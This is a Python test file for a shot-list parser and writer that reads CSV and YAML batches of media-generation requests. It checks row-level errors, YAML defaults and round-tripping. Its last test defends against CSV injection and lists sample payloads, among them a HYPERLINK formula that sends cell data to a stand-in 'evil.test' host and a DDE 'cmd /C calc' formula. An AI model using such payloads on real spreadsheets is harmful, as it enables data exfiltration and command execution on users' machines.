"""Shot lists: CSV and YAML batch files read row by row, with the row number and field of every
refusal; bad rows never stop good ones; rows written out and read back are the same input."""

from __future__ import annotations

import csv
import io

import string

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.domain.errors import ValidationError
from app.domain.params import normalize
from app.domain.shotlist import (
    COLUMNS,
    OPTION_COLUMNS,
    RowError,
    SceneName,
    ShotListError,
    ShotRow,
    format_for,
    parse,
    row_error,
    write,
    write_csv,
    write_yaml,
)

RID1 = "article:20260816:tide-eye:scene-01"
RID2 = "article:20260816:tide-eye:scene-02"
DATA_URL = "data:image/png;base64,iVBORw0KGgo="


def csv_rows(text: str | bytes):
    return parse(text, "csv").entries


def only(entries, cls):
    assert all(isinstance(e, cls) for e in entries), entries
    return entries


# -- CSV -----------------------------------------------------------------------------------


def test_csv_rows_are_submit_inputs_numbered_by_line():
    entries = csv_rows(
        "request_id,kind,prompt,model,duration,resolution\n"
        f"{RID1},video,a tide at dawn,MiniMax-Hailuo-2.3,6,768P\n"
        f"{RID2},image,a gull,,,\n"
    )
    one, two = only(entries, ShotRow)
    assert (one.row, one.request_id, one.kind) == (2, RID1, "video")
    assert one.params == {
        "prompt": "a tide at dawn",
        "model": "MiniMax-Hailuo-2.3",
        "duration": 6,
        "resolution": "768P",
    }
    assert (two.row, two.params) == (3, {"prompt": "a gull"})  # empty cells: not stated
    assert one.input.params == dict(one.params)


def test_utf8_with_and_without_bom_read_the_same():
    text = f"request_id,kind,prompt\n{RID1},video,潮汐之眼，黎明时分的海面\n"
    plain = parse(text.encode("utf-8"), "csv")
    bom = parse(b"\xef\xbb\xbf" + text.encode("utf-8"), "csv")
    assert plain == bom
    assert plain.rows[0].params["prompt"] == "潮汐之眼，黎明时分的海面"
    assert parse("\ufeff" + text, "csv") == plain


def test_quoted_newlines_stay_in_the_prompt_and_later_rows_keep_their_line():
    entries = csv_rows(
        "request_id,kind,prompt\r\n"
        f'{RID1},video,"line one\r\nline two, with a comma\nand ""quotes"""\r\n'
        f"{RID2},video,next\r\n"
    )
    one, two = only(entries, ShotRow)
    assert one.params["prompt"] == 'line one\r\nline two, with a comma\nand "quotes"'
    assert (one.row, two.row) == (2, 5)


def test_trailing_empty_lines_and_blank_rows_are_skipped():
    entries = csv_rows(f"request_id,kind,prompt\n\n{RID1},video,a\n,,\n\n\n\n")
    (row,) = only(entries, ShotRow)
    assert row.row == 3


def test_the_prompt_is_kept_exactly_and_other_cells_are_trimmed():
    (row,) = csv_rows(f"request_id, kind ,prompt,model\n {RID1} , Video ,  two spaces  , T2V-01 \n")
    assert row.request_id == RID1 and row.kind == "video"
    assert row.params == {"prompt": "  two spaces  ", "model": "T2V-01"}


def test_header_names_are_forgiving_about_case_and_dashes():
    (row,) = csv_rows(
        f"Request-Id,KIND,prompt,First-Frame,prompt-optimizer\n{RID1},video,p,{FRAME},no\n"
    )
    assert row.params == {"prompt": "p", "first_frame_image": FRAME, "prompt_optimizer": False}


FRAME = "https://example.com/frame.png"


@pytest.mark.parametrize(
    ("cell", "value"),
    [
        ("true", True),
        ("TRUE", True),
        ("yes", True),
        ("1", True),
        ("false", False),
        ("No", False),
        ("0", False),
    ],
)
def test_switches(cell, value):
    (row,) = csv_rows(f"request_id,kind,prompt,prompt_optimizer\n{RID1},image,p,{cell}\n")
    assert row.params["prompt_optimizer"] is value


@pytest.mark.parametrize(
    ("column", "cell", "words"),
    [
        ("duration", "6s", "number alone"),
        ("duration", "6.0", "not a whole number"),
        ("n", "two", "not a whole number"),
        ("seed", "１２", "not a whole number"),  # full-width digits are not read as a number
        ("prompt_optimizer", "maybe", "true or false"),
        ("kind", "audio", "image, video, music, speech or voice"),
        ("request_id", "short", "8 to 120"),
    ],
)
def test_bad_cells_name_row_and_field(column, cell, words):
    header = "request_id,kind,prompt" + ("" if column in ("kind", "request_id") else f",{column}")
    values = {"request_id": RID1, "kind": "video", "prompt": "p", column: cell}
    line = ",".join(values[c] for c in header.split(","))
    (err,) = csv_rows(f"{header}\n{line}\n")
    assert isinstance(err, RowError)
    assert (err.row, err.field) == (2, column)
    assert words in err.message
    assert err.describe().startswith(f"row 2: {column}: ")


def test_bad_rows_never_stop_good_ones():
    entries = csv_rows(
        "request_id,kind,prompt,duration\n"
        f"{RID1},video,a,6\n"
        "article:20260816:tide-eye:scene-02,video,b,ten\n"
        "article:20260816:tide-eye:scene-03,video,c,10\n"
    )
    assert [type(e).__name__ for e in entries] == ["ShotRow", "RowError", "ShotRow"]
    assert entries[1].request_id == RID2  # a bad row still says which slot it was


def test_a_duplicate_request_id_is_an_error_on_the_later_row_naming_the_earlier():
    entries = csv_rows(f"request_id,kind,prompt\n{RID1},video,a\n{RID2},video,b\n{RID1},image,c\n")
    assert isinstance(entries[0], ShotRow) and isinstance(entries[1], ShotRow)
    err = entries[2]
    assert isinstance(err, RowError)
    assert (err.row, err.field, err.request_id) == (4, "request_id", RID1)
    assert "already row 2" in err.message


def test_an_unknown_column_is_an_error_naming_it_on_rows_that_fill_it():
    entries = csv_rows(f"request_id,kind,prompt,durration\n{RID1},video,a,10\n{RID2},video,b,\n")
    err, ok = entries
    assert isinstance(err, RowError) and (err.row, err.field) == (2, "durration")
    assert "not a shot-list column" in err.message
    assert isinstance(ok, ShotRow)


def test_a_row_with_more_cells_than_the_header():
    (err,) = csv_rows(f"request_id,kind,prompt\n{RID1},video,a,extra\n")
    assert isinstance(err, RowError) and err.field == "column 4"


def test_multi_valued_options_are_separated_by_semicolons_but_data_urls_stay_whole():
    (row,) = csv_rows(
        "request_id,kind,prompt,reference_image\n"
        f'{RID1},video,p,"https://a.example/1.png; {DATA_URL} ;;https://a.example/2.png"\n'
    )
    assert row.params["reference_image"] == [
        "https://a.example/1.png",
        DATA_URL,
        "https://a.example/2.png",
    ]


def test_file_level_problems_raise_with_their_line():
    with pytest.raises(ShotListError) as caught:
        parse("request_id,kind,prompt\n潮汐\n".encode("gbk"), "csv")
    assert (caught.value.field, caught.value.line) == ("file", 2)
    assert "UTF-8" in str(caught.value)
    with pytest.raises(ShotListError, match="one column; Slate reads comma-separated"):
        parse("request_id;kind;prompt\n", "csv")
    with pytest.raises(ShotListError, match="must name the columns"):
        parse(f"{RID1},video,p\n", "csv")
    with pytest.raises(ShotListError, match="prompt: is column 3 and column 4"):
        parse("request_id,kind,prompt,Prompt\n", "csv")


def test_a_file_with_only_a_header_has_no_rows():
    assert parse("request_id,kind,prompt\n", "csv").entries == ()
    assert parse("", "csv").entries == ()


# -- naming by project and scene -----------------------------------------------------------


def test_project_and_scene_compose_the_request_id():
    (row,) = csv_rows(
        "series,date,project,scene,kind,prompt\narticle,2026-08-16,tide-eye,3,video,p\n"
    )
    assert row.request_id == "article:20260816:tide-eye:scene-03"
    assert row.name == SceneName("article", "20260816", "tide-eye", "scene-03")


@pytest.mark.parametrize(
    ("cells", "field", "words"),
    [
        ("article,20260816,tide-eye,,video", "scene", "required"),
        ("article,,tide-eye,3,video", "date", "required"),
        ("article,20260230,tide-eye,3,video", "date", "20260816"),
        ("article,20260816,tide eye,3,video", "project", "' '"),
        ("article,20260816,tide:eye,3,video", "project", "':'"),
    ],
)
def test_naming_errors_name_the_field(cells, field, words):
    (err,) = csv_rows(f"series,date,project,scene,kind\n{cells}\n")
    assert isinstance(err, RowError) and err.field == field and words in err.message


def test_a_scene_named_twice_is_a_duplicate_on_the_scene():
    entries = parse(
        "defaults: {series: article, date: 20260816, project: tide-eye, kind: video}\n"
        f"rows:\n- scene: 1\n- scene: 2\n- request_id: {RID2}\n- scene: scene-01\n",
        "yaml",
    ).entries
    assert [type(e).__name__ for e in entries] == ["ShotRow", "ShotRow", "RowError", "RowError"]
    assert (entries[2].field, entries[3].field) == ("request_id", "scene")
    assert "already row 2" in entries[2].message and "already row 1" in entries[3].message


def test_a_row_names_its_slot_one_way():
    (err,) = csv_rows(f"request_id,project,scene,kind\n{RID1},tide-eye,3,video\n")
    assert isinstance(err, RowError) and err.field == "project"


# -- YAML ----------------------------------------------------------------------------------


def test_yaml_list_of_rows():
    entries = parse(
        f"- request_id: {RID1}\n  kind: video\n  prompt: a\n  duration: 10\n  resolution: 768P\n"
        f"- request_id: {RID2}\n  kind: image\n  prompt: b\n  n: 2\n",
        "yaml",
    ).entries
    one, two = only(entries, ShotRow)
    assert (one.row, one.line, one.params["duration"]) == (1, 1, 10)
    assert (two.row, two.line, two.params) == (2, 6, {"prompt": "b", "n": 2})


def test_yaml_defaults_apply_to_every_row_and_a_row_wins():
    sl = parse(
        "defaults:\n  series: article\n  date: 2026-08-16\n  project: tide-eye\n"
        "  kind: video\n  model: MiniMax-H3\n  duration: 6\n"
        "rows:\n"
        "  - scene: 1\n    prompt: a\n"
        "  - scene: 2\n    prompt: b\n    duration: 10\n",
        "yaml",
    )
    one, two = only(sl.entries, ShotRow)
    assert (one.request_id, two.request_id) == (RID1, RID2)
    assert one.params == {"prompt": "a", "model": "MiniMax-H3", "duration": 6}
    assert two.params["duration"] == 10
    assert sl.defaults["model"] == "MiniMax-H3"


def test_yaml_values_are_read_by_their_column_not_guessed():
    (row,) = parse(
        "- series: article\n  date: 2026-08-16\n  project: tide-eye\n  scene: 010\n"
        "  kind: video\n  prompt: no\n  prompt_optimizer: yes\n  seed: 007\n",
        "yaml",
    ).entries
    assert row.request_id == "article:20260816:tide-eye:scene-10"
    assert row.params == {"prompt": "no", "prompt_optimizer": True, "seed": 7}


def test_yaml_null_and_empty_are_not_stated():
    (row,) = parse(
        f"defaults: {{model: T2V-01}}\nrows:\n- {{request_id: {RID1}, kind: video, prompt: p, "
        "model: ~, duration: }\n",
        "yaml",
    ).entries
    assert row.params == {"prompt": "p", "model": "T2V-01"}


def test_yaml_lists_for_multi_valued_options():
    (row,) = parse(
        f"- request_id: {RID1}\n  kind: video\n  prompt: p\n  reference_image:\n"
        f"    - https://a.example/1.png\n    - {DATA_URL}\n",
        "yaml",
    ).entries
    assert row.params["reference_image"] == ["https://a.example/1.png", DATA_URL]


def test_yaml_bad_rows_are_numbered_by_item():
    entries = parse(
        f"- request_id: {RID1}\n  kind: video\n  prompt: a\n"
        "- just text\n"
        f"- request_id: {RID2}\n  kind: video\n  prompt: a\n  prompt: b\n"
        "- request_id: article:20260816:tide-eye:scene-03\n  kind: video\n  n: [1, 2]\n"
        "- request_id: article:20260816:tide-eye:scene-04\n  kind: video\n  colour: red\n"
        f"- request_id: {RID1}\n  kind: video\n",
        "yaml",
    ).entries
    assert isinstance(entries[0], ShotRow)
    errors = [(e.row, e.line, e.field) for e in entries[1:]]
    assert errors == [
        (2, 4, "row"),
        (3, 5, "prompt"),
        (4, 9, "n"),
        (5, 12, "colour"),
        (6, 15, "request_id"),
    ]
    assert "given twice (lines 7 and 8)" in entries[2].message
    assert "already row 1" in entries[5].message


@pytest.mark.parametrize(
    ("text", "field", "line"),
    [
        ("defaults:\n  durration: 6\nrows: []\n", "defaults.durration", 2),
        (f"defaults:\n  request_id: {RID1}\nrows: []\n", "defaults.request_id", 2),
        ("defaults:\n  date: tomorrow\nrows: []\n", "defaults.date", 2),
        ("defaults: [1]\nrows: []\n", "defaults", 1),
        ("rows: []\ncolumns: [a]\n", "columns", 2),
        ("defaults: {}\n", "rows", 1),
        ("defaults: {n: 1, n: 2}\nrows: []\n", "defaults.n", 1),
        ("rows: []\nrows: []\n", "rows", 2),
        ("rows: {a: 1}\n", "rows", 1),
        ("- a: [1\n", "file", 2),
        ("just a sentence\n", "rows", 1),
    ],
)
def test_yaml_file_level_problems(text, field, line):
    with pytest.raises(ShotListError) as caught:
        parse(text, "yaml")
    assert (caught.value.field, caught.value.line) == (field, line)


def test_yaml_anchors_and_merge_keys_share_options_between_rows():
    entries = parse(
        f"- &base {{request_id: {RID1}, kind: video, model: T2V-01, prompt: a}}\n"
        f"- <<: *base\n  request_id: {RID2}\n  prompt: b\n",
        "yaml",
    ).entries
    one, two = only(entries, ShotRow)
    assert (two.request_id, two.params) == (RID2, {"prompt": "b", "model": "T2V-01"})


def test_a_duplicate_key_in_a_shared_anchor_is_an_error_of_every_row_that_uses_it():
    """Each YAML node is checked once (issue 24, point 11); its answer holds for every row that
    shares it through an alias."""
    text = (
        "- &base {kind: video, model: T2V-01, prompt: a, prompt: b, request_id: " + RID1 + "}\n"
        "- {request_id: " + RID2 + ", kind: video, prompt: c}\n"
        "- <<: *base\n  request_id: " + RID2 + ".t2\n"
    )
    first, second, third = parse(text, "yaml").entries
    assert isinstance(second, ShotRow)
    for row in (first, third):
        assert (row.field, row.message) == ("prompt", "is given twice (lines 1 and 1)"), row


def test_an_empty_yaml_file_has_no_rows():
    assert parse("", "yaml").entries == ()
    assert parse("rows:\n", "yaml").entries == ()


# -- rows meet the parameter rules ---------------------------------------------------------


def test_normalize_refusals_become_row_errors_in_the_files_words():
    (row,) = csv_rows(f"request_id,kind,prompt,model,first_frame\n{RID1},video,p,T2V-01,{FRAME}\n")
    with pytest.raises(ValidationError) as caught:
        normalize(row.kind, row.params)
    err = row_error(row, caught.value)
    assert (err.row, err.field, err.request_id) == (2, "first_frame", RID1)
    assert err.error_json() == {
        "code": "invalid",
        "field": "first_frame",
        "message": "row 2: first_frame: T2V-01 does not take a first frame",
    }


def test_csv_rows_give_normalize_what_it_takes():
    (row,) = csv_rows(
        "request_id,kind,prompt,aspect_ratio,n,seed,prompt_optimizer,response_format\n"
        f"{RID1},image,p,16:9,3,42,true,base64\n"
    )
    assert normalize(row.kind, row.params)["n"] == 3


def test_format_for():
    assert format_for("shots.CSV") == "csv"
    assert format_for("a/b.yml") == "yaml" and format_for("x.yaml") == "yaml"
    with pytest.raises(ValidationError):
        format_for("shots.xlsx")


# -- written out and read back -------------------------------------------------------------

RID_CHARS = string.ascii_letters + string.digits + "._:-"
NAME_CHARS = string.ascii_letters + string.digits + "._-"
trimmed = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Zs", "Zl", "Zp")),
    min_size=1,
    max_size=20,
)
#: Pieces that trouble CSV and YAML writers: line breaks of every kind, quotes, separators,
#: indicators, words YAML 1.1 would guess at, a BOM, Chinese text, edge whitespace.
TRICKY = [
    "\r\n",
    "\n",
    "\r",
    '"',
    "'",
    ",",
    ";",
    " ",
    "\t",
    "#",
    "- ",
    ": ",
    "null",
    "~",
    "yes",
    "010",
    "\\",
    "\u2028",
    "\x85",
    "\ufeff",
    "潮汐之眼，",
    "[Push in]",
    "|",
    ">",
    # formula starts a spreadsheet app would run (written behind a ', read back without it)
    "=",
    "+",
    "-",
    "@",
    "'=",
    "''@",
]
prompts = (
    st.lists(
        st.one_of(
            st.sampled_from(TRICKY),
            st.text(
                alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
                max_size=10,
            ),
        ),
        min_size=1,
        max_size=8,
    )
    .map("".join)
    .filter(bool)
)
list_items = st.lists(
    st.one_of(st.just(DATA_URL), trimmed.filter(lambda s: ";" not in s)), min_size=1, max_size=3
)
OPTION_VALUES = {
    "prompt": prompts,
    "model": trimmed,
    "duration": st.integers(-5, 20),
    "resolution": trimmed,
    "ratio": trimmed,
    "aspect_ratio": trimmed,
    "n": st.integers(0, 12),
    "seed": st.integers(0, 2**31),
    "width": st.integers(0, 4096),
    "height": st.integers(0, 4096),
    "size": trimmed,
    "area": trimmed,
    "first_frame": trimmed,
    "last_frame": trimmed,
    "subject_reference": trimmed,
    "reference_image": list_items,
    "reference_video": list_items,
    "reference_audio": list_items,
    "prompt_optimizer": st.booleans(),
    "prompt_expansion": trimmed,
    "fast_pretreatment": st.booleans(),
    "response_format": trimmed,
    "lyrics": prompts,
    "instrumental": st.booleans(),
    "lyrics_optimizer": st.booleans(),
    "format": trimmed,
    "sample_rate": st.integers(0, 48000),
    "bitrate": st.integers(0, 256000),
    "text": prompts,
    "voice": trimmed,
    "speed": st.floats(0, 3, allow_nan=False, allow_infinity=False),
    "volume": st.floats(0, 11, allow_nan=False, allow_infinity=False),
    "pitch": st.integers(-13, 13),
    "emotion": trimmed,
    "channels": st.integers(0, 3),
    "language_boost": trimmed,
    "preview_text": prompts,
}
assert set(OPTION_VALUES) == set(OPTION_COLUMNS)


@st.composite
def shot_rows(draw):
    count = draw(st.integers(1, 5))
    rows = []
    ids = draw(
        st.lists(
            st.text(RID_CHARS, min_size=8, max_size=40), min_size=count, max_size=count, unique=True
        )
    )
    for i, rid in enumerate(ids):
        options = draw(st.dictionaries(st.sampled_from(OPTION_COLUMNS), st.none(), max_size=6))
        params = {}
        for column in options:
            value = draw(OPTION_VALUES[column])
            params[
                {"first_frame": "first_frame_image", "last_frame": "last_frame_image"}.get(
                    column, column
                )
            ] = value
        name = None
        if draw(st.booleans()):
            name = SceneName(
                draw(st.text(NAME_CHARS, min_size=1, max_size=8)),
                draw(st.dates().map(lambda d: d.strftime("%Y%m%d")).filter(lambda s: len(s) == 8)),
                draw(st.text(NAME_CHARS, min_size=1, max_size=8)),
                f"scene-{i + 1:02d}",
            )
            rid = name.request_id
            if len(rid) < 8:
                name, rid = None, ids[i]
        rows.append(
            ShotRow(
                i + 1,
                i + 1,
                rid,
                draw(st.sampled_from(["image", "video", "music", "speech"])),
                params,
                name,
            )
        )
    return rows


def inputs(rows):
    return [(r.input, r.name) for r in rows]


@given(shot_rows())
@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
def test_any_rows_written_as_csv_read_back_as_the_same_input(rows):
    back = parse(write(rows, "csv"), "csv")
    assert back.errors == ()
    assert inputs(back.rows) == inputs(rows)


@given(shot_rows())
@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
def test_any_rows_written_as_yaml_read_back_as_the_same_input(rows):
    back = parse(write(rows, "yaml"), "yaml")
    assert back.errors == ()
    assert inputs(back.rows) == inputs(rows)


def test_the_writers_refuse_what_would_not_read_back():
    row = ShotRow(1, 1, RID1, "video", {"model": " padded "})
    with pytest.raises(ValueError, match="model"):
        write_csv([row])
    with pytest.raises(ValueError, match="reference_image"):
        write_yaml([ShotRow(1, 1, RID1, "video", {"reference_image": ["a;b"]})])
    with pytest.raises(ValueError, match="duration: a row without it would take the default"):
        write_yaml([ShotRow(1, 1, RID1, "video", {})], defaults={"duration": 6})


def test_the_csv_writer_puts_a_bom_for_spreadsheets_and_only_used_columns():
    data = write([ShotRow(1, 1, RID1, "video", {"prompt": "潮汐"})], "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines()[0] == "request_id,kind,prompt"
    assert COLUMNS.index("request_id") < COLUMNS.index("kind") < COLUMNS.index("prompt")


FORMULAS = [
    '=HYPERLINK("https://evil.test/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "'plain apostrophe",
]


@pytest.mark.parametrize("prompt", FORMULAS)
def test_csv_cells_never_start_a_formula_and_read_back_exactly(prompt):
    """OWASP CSV injection: a prompt, lyrics, text or RequestId beginning with = + - @ (or tab,
    CR) is written behind a ' that spreadsheet apps take as "text"; Slate reads it back as
    written (issue 32)."""
    rid = "-lead:20261202:tide-eye:scene-01"
    rows = [
        ShotRow(1, 1, rid, "music", {"prompt": prompt, "lyrics": prompt, "seed": 7}),
        ShotRow(2, 2, RID1, "speech", {"text": prompt, "pitch": -3, "voice": "@voice"}),
    ]
    text = write_csv(rows)
    for cells in list(csv.reader(io.StringIO(text, newline="")))[1:]:
        for cell in cells:
            if cell.lstrip("-").isdigit():
                continue  # a number is never a formula
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    back = parse(write(rows, "csv"), "csv")
    assert back.errors == ()
    assert inputs(back.rows) == inputs(rows)
